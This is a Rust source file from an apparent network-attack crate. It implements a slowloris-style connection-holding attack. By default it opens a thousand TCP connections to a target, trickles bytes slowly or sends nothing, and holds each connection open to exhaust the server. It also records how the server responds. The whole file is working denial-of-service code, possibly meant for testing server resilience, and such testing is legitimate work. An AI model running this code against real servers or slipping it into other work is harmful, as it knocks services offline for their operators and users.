//! Attacks that hold many connections and send little: most of them slowly, or nothing at all.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout_at};

use crate::attack::Target;
use crate::wire;

/// What each connection does.
#[derive(Clone)]
pub(crate) struct Held {
    /// How many there are.
    pub(crate) connections: usize,
    /// What each sends at once.
    pub(crate) opening: Vec<u8>,
    /// What it sends then, so many bytes each time.
    pub(crate) drip: Vec<u8>,
    pub(crate) piece: usize,
    pub(crate) every: Duration,
    pub(crate) hears: Hears,
}

/// What an attacker hears of what a server says.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Hears {
    /// It never reads.
    Nothing,
    /// Only when it ends.
    Bytes,
    /// Frames of HTTP/2.
    Frames,
}

impl Default for Held {
    fn default() -> Self {
        let every = Duration::from_secs(1);
        Self { connections: 1000, opening: Vec::new(), drip: Vec::new(), piece: 1, every, hears: Hears::Bytes }
    }
}

impl Held {
    /// Opens all, and holds each until the server ends it or the attack is over.
    pub(crate) async fn run(self, target: Arc<Target>) {
        let mut tasks = JoinSet::new();
        for at in 0..self.connections {
            let (held, target) = (self.clone(), Arc::clone(&target));
            tasks.spawn_local(async move { held.one(&target).await });
            // Not faster than a listener takes them in.
            if at % 50 == 49 {
                sleep(Duration::from_millis(2)).await;
            }
        }
        tasks.join_all().await;
    }

    async fn one(self, target: &Target) {
        let Ok(Ok(stream)) = timeout_at(target.until, TcpStream::connect(&target.address)).await else {
            target.met("connections not taken", 1);
            return;
        };
        target.sent("connections", 1);
        let came = Instant::now();
        let (reads, mut writes) = stream.into_split();
        let sends = async {
            let mut failed = writes.write_all(&self.opening).await.is_err();
            for piece in self.drip.chunks(self.piece) {
                if failed {
                    break;
                }
                sleep(self.every).await;
                failed = writes.write_all(piece).await.is_err();
                target.sent("bytes dripped", piece.len() as u64);
            }
            std::future::pending::<()>().await;
        };
        let how = tokio::select! {
            () = sends => unreachable!("it ends in waiting"),
            how = self.hear(reads, target) => format!("{how} after {:.0} s", came.elapsed().as_secs_f64()),
            () = sleep_until(target.until) => "held to the end".to_owned(),
        };
        if !self.opening.is_empty() {
            target.sent("bytes at first", self.opening.len() as u64);
        }
        target.met(&how, 1);
    }

    async fn hear(&self, mut stream: impl AsyncRead + Unpin, target: &Target) -> String {
        match self.hears {
            Hears::Nothing => std::future::pending().await,
            Hears::Frames => {
                let says = |counts: std::collections::BTreeMap<&'static str, u64>| {
                    for (what, count) in counts {
                        target.met(what, count);
                    }
                };
                wire::listen(stream, says).await
            }
            Hears::Bytes => {
                let mut buffer = [0; 4096];
                loop {
                    match stream.read(&mut buffer).await {
                        Ok(0) => return "closed".to_owned(),
                        Ok(_) => {}
                        Err(_) => return "reset".to_owned(),
                    }
                }
            }
        }
    }
}
